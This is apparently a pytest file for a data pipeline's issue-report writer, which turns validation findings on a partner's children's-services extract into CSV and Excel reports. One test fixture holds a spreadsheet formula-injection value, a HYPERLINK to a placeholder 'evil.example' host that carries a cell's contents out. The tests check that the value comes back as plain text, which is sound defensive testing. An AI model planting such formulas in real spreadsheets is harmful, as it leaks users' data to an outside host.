"""The issue report a partner gets for an extract: every finding, with its place, as CSV and Excel, and nothing
a spreadsheet would run (lib/feedback.py)."""

import csv

import openpyxl

from dagster_project.lib.feedback import HEADERS, write_issue_report
from dagster_project.lib.findings import Finding, Severity

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def findings() -> list[Finding]:
    return [
        Finding(
            rule="code_list",
            severity=Severity.ERROR,
            message="referral_source must be one of the contract's codes",
            file_name="csc_E06000022_2023-03.zip",
            sheet="referrals.csv",
            row_number=12,
            column_name="Source of Referral",
            column_letter="D",
            value=HOSTILE,
        ),
        Finding(
            rule="stale_open_referral",
            severity=Severity.QUERY,
            message="open more than 2 years with no activity",
            file_name="csc_E06000022_2023-03.zip",
            sheet="referrals.csv",
            row_number=40,
            value="-5",
        ),
    ]


def test_every_finding_is_a_row_with_its_place_in_csv_and_excel(tmp_path):
    report = write_issue_report("csc_E06000022_2023-03.zip", findings(), tmp_path / "csc")

    assert report.findings == 2
    with report.csv.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == HEADERS
    assert rows[1][:6] == ["error", "code_list", "referrals.csv", "12", "D", "Source of Referral"]
    assert rows[2][7] == "open more than 2 years with no activity"

    sheet = openpyxl.load_workbook(report.workbook).active
    assert [c.value for c in sheet[1]] == HEADERS
    assert [c.value for c in sheet[2]][:6] == ["error", "code_list", "referrals.csv", 12, "D", "Source of Referral"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref


def test_a_formula_a_partner_typed_comes_back_as_text_never_as_a_formula(tmp_path):
    report = write_issue_report("f.zip", findings(), tmp_path)

    with report.csv.open(encoding="utf-8-sig", newline="") as handle:
        values = [row[6] for row in csv.reader(handle)][1:]
    assert values == ["'" + HOSTILE, "'-5"]
    cells = [row[6] for row in openpyxl.load_workbook(report.workbook).active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(HOSTILE, "s"), ("-5", "s")]


def test_a_clean_file_gets_a_report_saying_so(tmp_path):
    report = write_issue_report("clean.zip", [], tmp_path)
    assert report.findings == 0
    assert "No problems found in clean.zip." in [c.value for c in openpyxl.load_workbook(report.workbook).active[2]]
